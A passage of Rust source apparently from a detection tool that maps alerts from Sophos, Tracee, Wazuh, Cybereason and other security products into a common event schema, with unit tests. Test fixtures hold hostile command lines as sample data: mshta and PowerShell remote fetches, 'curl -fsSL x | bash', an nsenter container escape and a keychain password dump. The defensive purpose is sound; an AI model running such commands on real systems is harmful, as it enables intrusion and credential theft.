        let rest = &n[i..];
        let end = rest.find('\'')?;
        Some(rest[..end].to_owned()).filter(|p| !p.is_empty())
    };
    let items: Vec<&Json> = obj
        .get("core_remedy_items")
        .and_then(|c| c.get("items"))
        .and_then(Json::as_array)
        .map(|a| a.iter().collect())
        .unwrap_or_default();
    // The remediation chain's processes, the detected one first (its command line when the
    // descriptor says more than the path), then the program that started it; a `command` item
    // is a process known by its command line.
    let procs: Vec<(Option<String>, Option<&str>)> = items
        .iter()
        .filter(|i| matches!(text(i, "type"), Some("process" | "command")))
        .map(|i| {
            let desc = text(i, "descriptor");
            // A bare path (`C:\\Program Files\\…\\WINWORD.EXE`), or a command line.
            let bare = |d: &&str| {
                !d.contains('"')
                    && (d.to_ascii_lowercase().ends_with(".exe")
                        || (d.starts_with('/') && !d.contains(char::is_whitespace)))
            };
            let path = text(i, "processPath").or(desc.filter(bare));
            let cmd = desc.filter(|d| !bare(d) && Some(*d) != path);
            (path.map(str::to_owned), cmd)
        })
        .collect();
    let files: Vec<&str> = mtext(obj, "filePath")
        .into_iter()
        .chain(
            items
                .iter()
                .filter(|i| text(i, "type") == Some("file"))
                .filter_map(|i| text(i, "descriptor")),
        )
        .collect();
    // A detection's `process_details`: the command line, the parent, and the file's own
    // metadata (a renamed interpreter's original file name).
    let details = obj.get("process_details");
    let detail = |k: &str| details.and_then(|d| text(d, k));
    // The detected process as the detection names it, else the remediation chain's first.
    let named =
        mtext(obj, "process_path").is_some() && mtext(obj, "process_command_line").is_some();
    let (exe, cmd) = match procs.first().filter(|_| !named) {
        Some((p, c)) => (p.clone().or_else(|| quoted(" in '")), c.map(str::to_owned)),
        None if named => (None, None),
        None => (quoted(" in '").filter(|p| p.contains(['\\', '/'])), None),
    };
    // The detection's own process fields, and the child it started (a web server's shell):
    // the child is the event's process, the detected program its parent.
    let exe = exe.or_else(|| mtext(obj, "process_path").map(str::to_owned));
    let cmd = cmd.or_else(|| mtext(obj, "process_command_line").map(str::to_owned));
    let child = mtext(obj, "child_process_command_line");
    if let Some(child) = child {
        put_process(&mut e, "process.parent", exe, cmd.as_deref());
        put_process(
            &mut e,
            "process",
            mtext(obj, "child_process_path").map(str::to_owned),
            Some(child),
        );
        if let Some(n) = mtext(obj, "child_process_name") {
            set_path(&mut e, "process.name", s(n));
        }
    } else {
        let exe = exe.or_else(|| detail("path").map(str::to_owned));
        let mut cmd = cmd.or_else(|| {
            detail("cmd_line")
                .or_else(|| detail("command_line"))
                .map(str::to_owned)
        });
        // A detection whose remediated process is known only by its path: its command line
        // from the `process_tree` entry of the same pid (`sophosPid` is `PID:START`), else
        // the tree's last.
        if cmd
            .as_deref()
            .is_none_or(|c| !c.trim().contains(char::is_whitespace))
            && let Some(tree) = obj.get("process_tree").and_then(Json::as_array)
        {
            let pid = items
                .iter()
                .find_map(|i| text(i, "sophosPid"))
                .and_then(|p| p.split(':').next()?.parse::<i64>().ok());
            if let Some(c) = tree
                .iter()
                .rev()
                .find(|n| pid.is_some_and(|p| n.get("pid").and_then(Json::as_i64) == Some(p)))
                .or_else(|| tree.last())
                .and_then(|n| text(n, "cmdline"))
            {
                cmd = Some(c.to_owned());
            }
        }
        if exe.is_none() && cmd.is_none() {
            return None;
        }
        // A tree through macOS's own programs (Finder, Terminal) or a mounted disk image.
        if obj
            .get("process_tree")
            .and_then(Json::as_array)
            .into_iter()
            .flatten()
            .filter_map(|n| text(n, "path"))
            .any(|p| {
                ["/System/", "/Applications/", "/Volumes/"]
                    .iter()
                    .any(|m| p.starts_with(m))
            })
        {
            set_path(&mut e, "host.os.type", s("macos"));
        }
        // What the process started (`children`, each with its `cmdline`) follows its command.
        let kids: Vec<&str> = obj
            .get("children")
            .and_then(Json::as_array)
            .into_iter()
            .flatten()
            .filter_map(|c| text(c, "cmdline"))
            .collect();
        if !kids.is_empty() {
            cmd = with_branches(cmd.as_deref(), kids);
        }
        // A script host the detection names without arguments ran the script it names: Sophos
        // lists the script as the detection's file.
        let host_of = |p: &str| {
            let n = basename_of(p).to_ascii_lowercase();
            ["wscript.exe", "cscript.exe", "mshta.exe"].contains(&n.as_str())
        };
        if cmd.is_none()
            && let Some(x) = exe.as_deref().filter(|x| host_of(x))
            && let Some(f) = files.iter().find(|f| {
                let f = f.to_ascii_lowercase();
                [".js", ".jse", ".vbs", ".vbe", ".wsf", ".hta"]
                    .iter()
                    .any(|e| f.ends_with(e))
            })
        {
            cmd = Some(format!("\"{x}\" \"{f}\""));
        }
        put_process(&mut e, "process", exe, cmd.as_deref());
        for (from, to) in [
            ("original_filename", "process.pe.original_file_name"),
            ("file_description", "process.pe.description"),
        ] {
            if let Some(v) = detail(from) {
                set_path(&mut e, to, s(v));
            }
        }
        // The first connection it made (`process_details.network`, or the detection's own
        // `network`: `remote_ip`/`remoteIp`, `remoteHost`, `remotePort`).
        if let Some(n) = details
            .and_then(|d| d.get("network"))
            .or_else(|| obj.get("network"))
            .and_then(|n| n.as_array().map_or(Some(n), |a| a.first()))
        {
            if let Some(ip) = text(n, "remote_ip").or_else(|| text(n, "remoteIp")) {
                set_path(&mut e, "destination.ip", s(ip));
            }
            if let Some(h) = text(n, "remoteHost")
                .or_else(|| text(n, "domain"))
                .filter(|h| h.parse::<std::net::IpAddr>().is_err())
            {
                set_path(&mut e, "destination.domain", s(h));
            }
            if let Some(p) = n
                .get("remotePort")
                .or_else(|| n.get("remote_port"))
                .and_then(Json::as_i64)
            {
                set_path(&mut e, "destination.port", json!(p));
            }
        }
        match quoted(" started by '")
            .or_else(|| detail("parent_path").map(str::to_owned))
            .or_else(|| mtext(obj, "process_parent_path").map(str::to_owned))
        {
            Some(parent) => put_process(
                &mut e,
                "process.parent",
                Some(parent),
                mtext(obj, "process_parent_command_line"),
            ),
            None => {
                if let Some((p, c)) = procs.get(1) {
                    put_process(&mut e, "process.parent", p.clone(), *c);
                }
            }
        }
        put_process(
            &mut e,
            "process.parent.parent",
            mtext(obj, "process_grandparent_path").map(str::to_owned),
            mtext(obj, "process_grandparent_command_line"),
        );
    }
    // The file the detection names, else the launch item it found the process started by.
    if let Some(f) = files.first().copied().or_else(|| {
        obj.get("persistence")
            .and_then(|p| text(p, "plist").or_else(|| text(p, "path")))
    }) {
        set_path(&mut e, "file.path", s(f));
    }
    // What AMSI was shown (an AMSI detection's script content).
    if let Some(a) = mtext(obj, "amsi_content") {
        set_path(&mut e, "powershell.file.script_block_text", s(a));
    }
    // The detected program's hash: the parent's when its child is the event's process.
    if let Some(h) = mtext(obj, "appSha256") {
        let whose = if child.is_some() {
            "process.parent.hash.sha256"
        } else {
            "process.hash.sha256"
        };
        set_path(&mut e, whose, s(h));
    }
    let host = ["location", "dhost"]
        .into_iter()
        .find_map(|k| mtext(obj, k))
        .or_else(|| obj.get("managedAgent").and_then(|m| text(m, "name")));
    if let Some(h) = host {
        set_path(&mut e, "host.name", s(h));
    }
    if let Some(ip) = obj.get("source_info").and_then(|i| text(i, "ip")) {
        set_path(&mut e, "host.ip", json!([ip]));
    }
    let user = ["source", "suser"]
        .into_iter()
        .find_map(|k| mtext(obj, k))
        .filter(|u| !u.eq_ignore_ascii_case("n/a"))
        .or_else(|| detail("username"))
        .or_else(|| mtext(obj, "process_user"))
        .or_else(|| obj.get("person").and_then(|p| text(p, "name")));
    if let Some(u) = user {
        set_user(&mut e, u);
    }
    if let Some(i) = mtext(obj, "process_integrity").filter(|_| child.is_none()) {
        set_path(
            &mut e,
            "process.integrity_level",
            s(&i.to_ascii_lowercase()),
        );
    }
    // The detection's own ATT&CK mapping (`detection_identity.mitre`, or `mitre`).
    let mitre: Vec<&str> = obj
        .get("detection_identity")
        .and_then(|d| d.get("mitre"))
        .or_else(|| obj.get("mitre"))
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(Json::as_str)
        .collect();
    let threat = mtext(obj, "threat");
    if let Some(r) = threat.or(mtext(obj, "detection_identity_name")).or(name) {
        set_path(&mut e, "rule.name", s(r));
    }
    if let Some(d) = name {
        set_path(&mut e, "rule.description", s(d));
    }
    let ids: Vec<&str> = threat
        .into_iter()
        .flat_map(|t| t.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.')))
        .chain(mitre)
        .collect();
    set_techniques(&mut e, &ids);
    if let Some(t) = mtext(obj, "when").or_else(|| mtext(obj, "raisedAt")) {
        e.insert("@timestamp".into(), s(t));
    }
    let id = mtext(obj, "id").map(str::to_owned);
    finish(&mut e, "sophos", "sophos", Json::Object(original.clone()));
    Some((e, id))
}

/// Aqua Tracee events (its JSON output): a program's execution (`sched_process_exec`,
/// `execve`), or a signature's finding whose `triggeredBy` argument holds the event that fired
/// it. The event's `args` (each `name` / `value`: `pathname`, `argv`, `cmdpath`) describe the
/// program; `processName`, `userId`, `hostName`, the container and the Kubernetes pod where it
/// ran; the signature's `metadata.Properties` its name and ATT&CK id.
pub(super) fn tracee(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
    mtext(obj, "eventName")?;
    let args = obj.get("args")?.as_array()?;
    if !(obj.contains_key("processName") && obj.contains_key("hostName")) {
        return None;
    }
    fn arg<'a>(list: &'a [Json], k: &str) -> Option<&'a Json> {
        list.iter()
            .find(|a| text(a, "name") == Some(k))
            .and_then(|a| a.get("value"))
    }
    let exec: &[Json] = match arg(args, "triggeredBy") {
        Some(t) => t.get("args").and_then(Json::as_array)?,
        None => args,
    };
    let path = arg(exec, "pathname")
        .and_then(Json::as_str)
        .map(|p| p.trim_end_matches(" (deleted)"))
        .filter(|p| !p.is_empty())
        .or_else(|| obj.get("executable").and_then(|x| text(x, "path")));
    let argv: Vec<&str> = arg(exec, "argv")
        .and_then(Json::as_array)
        .map(|a| a.iter().filter_map(Json::as_str).collect())
        .unwrap_or_default();
    if path.is_none() && argv.is_empty() {
        return None;
    }
    let mut e = Map::new();
    let cmd = (!argv.is_empty()).then(|| shell_join(&argv));
    put_process(&mut e, "process", path.map(str::to_owned), cmd.as_deref());
    if !argv.is_empty() {
        set_path(&mut e, "process.args", json!(argv));
    }
    if path.is_none()
        && let Some(n) = mtext(obj, "processName")
    {
        set_path(&mut e, "process.name", s(n));
    }
    for (from, to) in [
        ("processId", "process.pid"),
        ("parentProcessId", "process.parent.pid"),
    ] {
        if let Some(v) = obj.get(from).filter(|v| v.is_number()) {
            set_path(&mut e, to, v.clone());
        }
    }
    if let Some(uid) = obj.get("userId").and_then(Json::as_i64) {
        set_path(&mut e, "user.id", s(&uid.to_string()));
        if uid == 0 {
            set_path(&mut e, "user.name", s("root"));
        }
    }
    if let Some(h) = mtext(obj, "hostName") {
        set_path(&mut e, "host.name", s(h));
    }
    set_path(&mut e, "host.os.type", s("linux"));
    if let Some(c) = obj.get("container").filter(|c| text(c, "id").is_some()) {
        for (from, to) in [
            ("id", "container.id"),
            ("name", "container.name"),
            ("image", "container.image.name"),
        ] {
            if let Some(v) = text(c, from) {
                set_path(&mut e, to, s(v));
            }
        }
    }
    if let Some(k) = obj.get("kubernetes") {
        if let Some(p) = text(k, "podName") {
            set_path(&mut e, "orchestrator.resource.name", s(p));
            set_path(&mut e, "orchestrator.type", s("kubernetes"));
        }
        if let Some(n) = text(k, "podNamespace") {
            set_path(&mut e, "orchestrator.namespace", s(n));
        }
    }
    if let Some(props) = obj.get("metadata").and_then(|m| m.get("Properties")) {
        if let Some(n) = text(props, "signatureName") {
            set_path(&mut e, "rule.name", s(n));
        }
        set_techniques(
            &mut e,
            &text(props, "external_id").into_iter().collect::<Vec<_>>(),
        );
    }
    if let Some(t) = obj
        .get("timestamp")
        .and_then(Json::as_i64)
        .map(chrono::DateTime::from_timestamp_nanos)
    {
        e.insert("@timestamp".into(), s(&t.to_rfc3339()));
    }
    finish(&mut e, "tracee", "tracee", Json::Object(obj.clone()));
    Some((e, None))
}

/// Wazuh file-integrity alerts (`syscheck`, with `report_changes`) of a file that makes the
/// system run a command: a udev rule's `RUN+=`, a crontab line, a systemd unit's `ExecStart=`,
/// a shell startup file or `rc.local`. The entry is judged as the command it will run (like
/// osquery's persistence rows); the file is `file.path`, and the process that wrote it (who-data
/// `audit.process`) is kept as `process.parent.parent`. Other files' changes are not process
/// events and are left to the other readers.
pub(super) fn wazuh_syscheck(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    let fim = obj.get("syscheck")?;
    let path = text(fim, "path")?;
    let diff = text(fim, "diff")?;
    // Lines the change added: `> x` (diff's normal format) or `+x` (unified).
    let added: Vec<&str> = diff
        .lines()
        .filter_map(|l| {
            l.strip_prefix("> ")
                .or_else(|| l.strip_prefix('+').filter(|r| !r.starts_with("++")))
        })
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .collect();
    if added.is_empty() {
        return None;
    }
    let owner = path
        .strip_prefix("/home/")
        .and_then(|r| r.split('/').next())
        .or(path.starts_with("/root/").then_some("root"));
    let name = basename_of(path);
    let mut e = Map::new();
    let runs = |e: &mut Map<String, Json>, cmd: &str, parent: &str, user: Option<&str>| {
        set_path(e, "process.name", s(basename_of(program(cmd))));
        set_path(e, "process.command_line", s(cmd));
        set_path(e, "process.parent.name", s(parent));
        if let Some(u) = user {
            set_path(e, "user.name", s(u));
        }
    };
    if path.contains("/udev/rules.d/") {
        // RUN+="cmd" / RUN="cmd" / PROGRAM="cmd", run by udevd as root.
        let cmds: Vec<&str> = added
            .iter()
            .flat_map(|l| l.split(','))
            .filter_map(|kv| {
                let (k, v) = kv.split_once('=')?;
                let k = k.trim().trim_end_matches('+');
                matches!(k, "RUN" | "PROGRAM").then(|| v.trim().trim_matches('"'))
            })
            .collect();
        if cmds.is_empty() {
            return None;
        }
        runs(&mut e, &cmds.join("\n"), "systemd-udevd", Some("root"));
    } else if path == "/etc/crontab"
        || path.starts_with("/etc/cron.d/")
        || path.contains("/spool/cron/")
    {
        let system = !path.contains("/spool/cron/");
        let line = added.iter().find(|l| !l.contains('=') || l.contains(' '))?;
        // Five schedule fields (or an @keyword), then, in a system crontab, the user.
        let mut rest = line.trim_start();
        let fields = if rest.starts_with('@') { 1 } else { 5 };
        for _ in 0..fields {
            rest = rest.split_once(char::is_whitespace)?.1.trim_start();
        }
        let (user, cmd) = if system {
            let (u, c) = rest.split_once(char::is_whitespace)?;
            (Some(u.to_owned()), c.trim_start())
        } else {
            (Some(name.to_owned()), rest)
        };
        cron_job(&mut e, cmd, user.map(Json::String));
    } else if path.contains("/systemd/") && (path.ends_with(".service") || path.ends_with(".timer"))
    {
        let key = |k: &str| {
            added.iter().find_map(|l| {
                l.strip_prefix(k)
                    .map(|v| v.trim_start_matches(['-', '@', '+', '!']))
            })
        };
        let cmd = key("ExecStart=").or_else(|| key("ExecStartPre="))?;
        runs(&mut e, cmd, "systemd", Some(key("User=").unwrap_or("root")));
    } else if [
        ".bashrc",
        ".bash_profile",
        ".profile",
        ".zshrc",
        ".zprofile",
        ".zshenv",
        "rc.local",
    ]
    .contains(&name)
        || path.starts_with("/etc/profile.d/")
        || path == "/etc/profile"
        || path == "/etc/bash.bashrc"
    {
        let shell = if name.starts_with(".z") {
            "zsh"
        } else {
            "bash"
        };
        runs(&mut e, &added.join("\n"), shell, owner.or(Some("root")));
    } else {
        return None;
    }
    set_path(&mut e, "file.path", s(path));
    if let Some(w) = fim.get("audit") {
        if let Some(p) = w.get("process").and_then(|p| text(p, "name")) {
            set_path(&mut e, "process.parent.parent.executable", s(p));
            set_path(&mut e, "process.parent.parent.name", s(basename_of(p)));
        }
        if let Some(u) = w.get("login_user").and_then(|u| text(u, "name")) {
            set_path(&mut e, "user.changes.name", s(u));
        }
    }
    if let Some(h) = obj.get("agent").and_then(|a| text(a, "name")) {
        set_path(&mut e, "host.name", s(h));
    }
    set_path(&mut e, "host.os.type", s("linux"));
    if let Some(t) = mtext(obj, "timestamp") {
        e.insert("@timestamp".into(), s(t));
    }
    if let Some(d) = obj.get("rule").and_then(|r| text(r, "description")) {
        set_path(&mut e, "rule.name", s(d));
    }
    let id = mtext(obj, "id").map(str::to_owned);
    finish(&mut e, "wazuh_fim", "wazuh", Json::Object(obj.clone()));
    Some((e, id))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn get<'a>(e: &'a Map<String, Json>, path: &str) -> Option<&'a Json> {
        let mut v = e.get(path.split('.').next()?)?;
        for k in path.split('.').skip(1) {
            v = v.get(k)?;
        }
        Some(v)
    }

    fn str_at<'a>(e: &'a Map<String, Json>, path: &str) -> &'a str {
        get(e, path).and_then(Json::as_str).unwrap_or("")
    }

    #[test]
    fn fireeye_hx_process_and_network_events() {
        let a = json!({
            "_id": 18342,
            "agent": {"_id": "Xr8w", "hostname": "MKT-WS-1187"},
            "indicator": {"display_name": "MSHTA REMOTE SCRIPT EXECUTION (METHODOLOGY)"},
            "event_at": "2025-04-14T09:03:27.604Z",
            "event_type": "processEvent",
            "event_values": {
                "processEvent/processPath": "C:\\Windows\\SysWOW64\\mshta.exe",
                "processEvent/process": "mshta.exe",
                "processEvent/processCmdLine": "mshta.exe https://docs.example/x.hta",
                "processEvent/parentProcessPath": "C:\\Windows\\explorer.exe",
                "processEvent/parentProcess": "explorer.exe",
                "processEvent/pid": 9132,
                "processEvent/parentPid": 5216,
                "processEvent/username": "MKTG\\jlee",
                "processEvent/md5": "7083239ce743fdb68dfc933b7308e80a"
            }
        });
        let (e, id) = fireeye_hx(a.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("18342"));
        assert_eq!(str_at(&e, "process.name"), "mshta.exe");
        assert_eq!(
            str_at(&e, "process.command_line"),
            "mshta.exe https://docs.example/x.hta"
        );
        assert_eq!(str_at(&e, "process.parent.name"), "explorer.exe");
        assert_eq!(get(&e, "process.parent.pid"), Some(&json!(5216)));
        assert_eq!(str_at(&e, "user.name"), "jlee");
        assert_eq!(str_at(&e, "user.domain"), "MKTG");
        assert_eq!(str_at(&e, "host.name"), "MKT-WS-1187");
        assert_eq!(
            str_at(&e, "rule.name"),
            "MSHTA REMOTE SCRIPT EXECUTION (METHODOLOGY)"
        );
        assert_eq!(get(&e, "event.category"), Some(&json!(["process"])));

        let n = json!({
            "_id": "7", "agent": {"hostname": "h"},
            "event_values": {
                "ipv4NetworkEvent/process": "powershell.exe",
                "ipv4NetworkEvent/processPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "ipv4NetworkEvent/remoteIP": "203.0.113.9",
                "ipv4NetworkEvent/remotePort": "443"
            }
        });
        let (e, _) = fireeye_hx(n.as_object().unwrap()).unwrap();
        assert_eq!(str_at(&e, "destination.ip"), "203.0.113.9");
        assert_eq!(get(&e, "destination.port"), Some(&json!(443)));
        assert_eq!(str_at(&e, "process.name"), "powershell.exe");
        assert_eq!(get(&e, "event.category"), Some(&json!(["network"])));
        // Not HX: no event values.
        assert!(fireeye_hx(json!({"_id": 1, "agent": {}}).as_object().unwrap()).is_none());
    }

    #[test]
    fn uptycs_alert_metadata_and_ancestors() {
        let meta = json!({
            "pid": 310288, "path": "/usr/bin/bash", "cmdline": "bash -c id", "cwd": "/opt/tomcat",
            "uid": 0, "parent_path": "/usr/bin/java", "username": "tomcat",
            "ancestor_list": "[{\"pid\": 1442, \"exe_name\": \"java\", \"path\": \"/usr/lib/jvm/bin/java\", \"cmdline\": \"java -jar app.jar\"}, {\"pid\": 1, \"exe_name\": \"systemd\", \"path\": \"/usr/lib/systemd/systemd\", \"cmdline\": \"/sbin/init\"}]",
            "os": "Rocky Linux 9.5"
        });
        let a = json!({
            "id": "c59b", "code": "JAVA_SPAWNED_SHELL", "description": "Shell spawned by Java",
            "alert_time": "2025-05-10 23:12:44.000", "upt_asset_id": "eb1d", "host_name": "hr-app-02",
            "metadata": meta.to_string()
        });
        let (e, id) = uptycs(a.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("c59b"));
        assert_eq!(str_at(&e, "process.command_line"), "bash -c id");
        assert_eq!(str_at(&e, "process.working_directory"), "/opt/tomcat");
        assert_eq!(
            str_at(&e, "process.parent.executable"),
            "/usr/lib/jvm/bin/java"
        );
        assert_eq!(
            str_at(&e, "process.parent.command_line"),
            "java -jar app.jar"
        );
        assert_eq!(str_at(&e, "process.parent.parent.name"), "systemd");
        assert_eq!(get(&e, "process.pid"), Some(&json!(310288)));
        assert_eq!(str_at(&e, "user.name"), "tomcat");
        assert_eq!(str_at(&e, "user.id"), "0");
        assert_eq!(str_at(&e, "host.name"), "hr-app-02");
        assert_eq!(str_at(&e, "rule.name"), "Shell spawned by Java");
        // The same metadata encoded twice.
        let mut twice = a.clone();
        twice["metadata"] = json!(meta.to_string().to_string());
        twice["metadata"] = json!(twice["metadata"].to_string());
        let (e, _) = uptycs(twice.as_object().unwrap()).unwrap();
        assert_eq!(str_at(&e, "process.command_line"), "bash -c id");
        // Metadata that is not a process event is not taken.
        let other = json!({"upt_asset_id": "x", "metadata": "{\"domain\": \"a.example\"}"});
        assert!(uptycs(other.as_object().unwrap()).is_none());
    }

    fn cr_process(name: &str, cmd: &str, parent: (&str, &str), user: &str) -> Json {
        let one = |v: &str| json!({"totalValues": 1, "values": [v]});
        let el =
            |g: &str, n: &str| json!({"totalValues": 1, "elementValues": [{"guid": g, "name": n}]});
        json!({
            "simpleValues": {"elementDisplayName": one(name), "commandLine": one(cmd), "pid": one("7316"),
                             "creationTime": one("1745028698000")},
            "elementValues": {"parentProcess": el(parent.0, parent.1), "calculatedUser": el("u", user),
                              "ownerMachine": el("m", "hb-acct-ws07")}
        })
    }

    #[test]
    fn cybereason_takes_the_newest_process_and_its_chain() {
        let a = json!({"data": {"resultIdToElementDataMap": {
            "g.sc": cr_process("ScreenConnect.ClientService.exe", "ScreenConnect.ClientService.exe ?e=Access", ("g.svc", "services.exe"), "nt authority\\system"),
            "g.cmd": cr_process("cmd.exe", "cmd.exe /c run.cmd", ("g.sc", "ScreenConnect.ClientService.exe"), "nt authority\\system"),
            "g.ps": cr_process("powershell.exe", "powershell.exe -nop -c iwr x", ("g.cmd", "cmd.exe"), "nt authority\\system"),
            "g.ssh": cr_process("sshd", "sshd: deploy [priv]", ("g.sshd", "sshd"), "root")
        }}, "status": "SUCCESS"});
        let (e, id) = cybereason(a.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("g.ps"));
        assert_eq!(str_at(&e, "process.name"), "powershell.exe");
        assert_eq!(
            str_at(&e, "process.command_line"),
            "powershell.exe -nop -c iwr x\nsshd: deploy [priv]"
        );
        assert_eq!(str_at(&e, "process.parent.name"), "cmd.exe");
        assert_eq!(
            str_at(&e, "process.parent.command_line"),
            "cmd.exe /c run.cmd"
        );
        assert_eq!(
            str_at(&e, "process.parent.parent.name"),
            "ScreenConnect.ClientService.exe"
        );
        assert_eq!(str_at(&e, "user.name"), "system");
        assert_eq!(str_at(&e, "user.domain"), "nt authority");
        assert_eq!(str_at(&e, "host.name"), "hb-acct-ws07");
        assert_eq!(get(&e, "process.pid"), Some(&json!(7316)));
        assert!(cybereason(json!({"data": {"x": 1}}).as_object().unwrap()).is_none());
        // A MalOp inbox model: its machines and users at the top, the process's parent command
        // line, grandparent and connection as the process's own keys.
        let m = json!({"detectionTypes": ["Suspicious shell command obfuscation"],
            "machines": [{"displayName": "MBP-1", "osType": "OSX"}], "users": [{"displayName": "ak"}],
            "malopProcesses": {"resultIdToElementDataMap": {"p.1": {
                "simpleValues": {"commandLine": {"values": ["bash"]}, "imageFile.correctedPath": {"values": ["/bin/bash"]},
                    "connections.remoteAddress": {"values": ["195.211.97.14:80"]}},
                "elementValues": {"parentProcess": {"elementValues": [{"guid": "z", "name": "zsh"}]}},
                "parentCommandLine": "/bin/zsh -c curl -fsSL x | bash", "grandParentProcess": "Terminal"}}}});
        let (e, _) = cybereason(m.as_object().unwrap()).unwrap();
        assert_eq!(
            str_at(&e, "process.parent.command_line"),
            "/bin/zsh -c curl -fsSL x | bash"
        );
        assert_eq!(str_at(&e, "process.parent.parent.name"), "Terminal");
        assert_eq!(str_at(&e, "host.name"), "MBP-1");
        assert_eq!(str_at(&e, "host.os.type"), "macos");
        assert_eq!(str_at(&e, "user.name"), "ak");
        assert_eq!(str_at(&e, "destination.ip"), "195.211.97.14");
        assert_eq!(get(&e, "destination.port"), Some(&json!(80)));
        assert_eq!(
            str_at(&e, "rule.name"),
            "Suspicious shell command obfuscation"
        );
    }
    #[test]
    fn cisco_secure_endpoint_events() {
        let a = json!({"id": 6977269180156218302u64, "date": "2025-11-05T15:48:31+00:00", "event_type": "Cloud IOC",
            "connector_guid": "c6", "computer": {"connector_guid": "c6", "hostname": "WKS-1.corp", "user": "SYSTEM@NT AUTHORITY",
                "network_addresses": [{"ip": "10.1.2.3"}]},
            "file": {"file_name": "powershell.exe", "file_path": "\\\\?\\C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "identity": {"sha256": "c5cf"}, "parent": {"process_id": 4120, "file_name": "CcmExec.exe", "file_path": "/C:/Windows/CCM/CcmExec.exe"}},
            "command_line": {"arguments": "powershell.exe -NoLogo -ExecutionPolicy Bypass"},
            "network_info": {"remote_ip": "203.0.113.9", "remote_port": 443, "dirty_url": "http://203.0.113.9/a"},
            "cloud_ioc": {"short_description": "W32.PowerShellExecutionPolicyBypass.ioc", "description": "PowerShell bypass"},
            "attack_details": {"indicators": [{"mitre_techniques": ["T1059.001"]}]}});
        let (e, id) = cisco_secure_endpoint(a.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("6977269180156218302"));
        assert_eq!(
            str_at(&e, "process.executable"),
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        );
        assert_eq!(
            str_at(&e, "process.command_line"),
            "powershell.exe -NoLogo -ExecutionPolicy Bypass"
        );
        assert_eq!(
            str_at(&e, "process.parent.executable"),
            "C:\\Windows\\CCM\\CcmExec.exe"
        );
        assert_eq!(get(&e, "process.parent.pid"), Some(&json!(4120)));
        assert_eq!(str_at(&e, "process.hash.sha256"), "c5cf");
        assert_eq!(str_at(&e, "user.name"), "SYSTEM");
        assert_eq!(str_at(&e, "user.domain"), "NT AUTHORITY");
        assert_eq!(str_at(&e, "host.name"), "WKS-1.corp");
        assert_eq!(str_at(&e, "host.os.type"), "windows");
        assert_eq!(str_at(&e, "destination.ip"), "203.0.113.9");
        assert_eq!(str_at(&e, "url.full"), "http://203.0.113.9/a");
        assert_eq!(
            str_at(&e, "rule.name"),
            "W32.PowerShellExecutionPolicyBypass.ioc"
        );
        assert_eq!(e["threat"]["technique"]["id"], json!(["T1059.001"]));
        // A macOS program by its path, with no `os` field.
        let m = json!({"event_type": "Cloud IOC", "connector_guid": "c7", "computer": {"hostname": "MBA-1", "user": "jt@MBA-1"},
            "file": {"file_name": "osascript", "file_path": "/usr/bin/osascript",
                "parent": {"file_name": "Setup", "file_path": "/Volumes/Setup/Setup.app/Contents/MacOS/Setup"}},
            "command_line": {"arguments": "osascript -e 'display dialog'"}, "os": "macOS 15.1"});
        let (e, _) = cisco_secure_endpoint(m.as_object().unwrap()).unwrap();
        assert_eq!(str_at(&e, "host.os.type"), "macos");
        assert_eq!(str_at(&e, "user.name"), "jt");
        assert_eq!(str_at(&e, "process.parent.name"), "Setup");
        assert!(
            cisco_secure_endpoint(
                json!({"event_type": "x", "computer": {}})
                    .as_object()
                    .unwrap()
            )
            .is_none()
        );
    }

    #[test]
    fn gcp_scc_findings_with_processes() {
        let f = json!({"finding": {"name": "organizations/1/sources/2/findings/f1", "category": "Execution: Container Escape",
            "eventTime": "2025-11-27T09:00:00Z",
            "processes": [
                {"name": "nsenter", "binary": {"path": "/usr/bin/nsenter", "sha256": "d511"}, "args": ["nsenter", "-t", "1", "--", "sh", "-c", "id"], "pid": "20", "parentPid": "10"},
                {"name": "sh", "binary": {"path": "/bin/sh"}, "args": ["/bin/sh", "-c", "nsenter -t 1 -- sh -c id"], "pid": "10", "parentPid": "5"},
                {"name": "python3", "binary": {"path": "/usr/local/bin/python3.10"}, "args": ["python3", "app.py"], "pid": "5", "parentPid": "1"}],
            "kubernetes": {"nodes": [{"name": "gke-node-1"}], "pods": [{"ns": "media", "name": "resizer-1"}]},
            "containers": [{"name": "resizer", "uri": "us-docker.pkg.dev/p/apps/resizer:1"}]}});
        let (e, id) = gcp_scc(f.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("organizations/1/sources/2/findings/f1"));
        assert_eq!(str_at(&e, "process.executable"), "/usr/bin/nsenter");
        assert_eq!(
            str_at(&e, "process.command_line"),
            "nsenter -t 1 -- sh -c id"
        );
        assert_eq!(str_at(&e, "process.parent.executable"), "/bin/sh");
        assert_eq!(str_at(&e, "process.parent.parent.name"), "python3.10");
        assert_eq!(str_at(&e, "host.name"), "gke-node-1");
        assert_eq!(str_at(&e, "container.name"), "resizer");
        assert_eq!(str_at(&e, "rule.name"), "Execution: Container Escape");
        assert!(gcp_scc(json!({"finding": {"category": "x"}}).as_object().unwrap()).is_none());
    }

    #[test]
    fn limacharlie_detections() {
        let d = json!({"cat": "Keychain access by script", "detect_id": "d-1",
            "detect_mtd": {"tags": ["attack.credential_access", "attack.t1555.001"]},
            "routing": {"hostname": "mbp-1", "plat": 805306368, "event_type": "NEW_PROCESS", "int_ip": "10.4.4.4", "event_time": 1760448771902u64},
            "detect": {"event": {"FILE_PATH": "/usr/bin/security", "COMMAND_LINE": "security find-generic-password -wa x",
                "PROCESS_ID": 52817, "USER_NAME": "lk", "USER_ID": 501, "HASH": "4f6c",
                "PARENT": {"FILE_PATH": "/bin/bash", "COMMAND_LINE": "/bin/bash /Users/lk/.cs/u.sh", "PROCESS_ID": 52790,
                    "PARENT_FILE_PATH": "/usr/bin/osascript"},
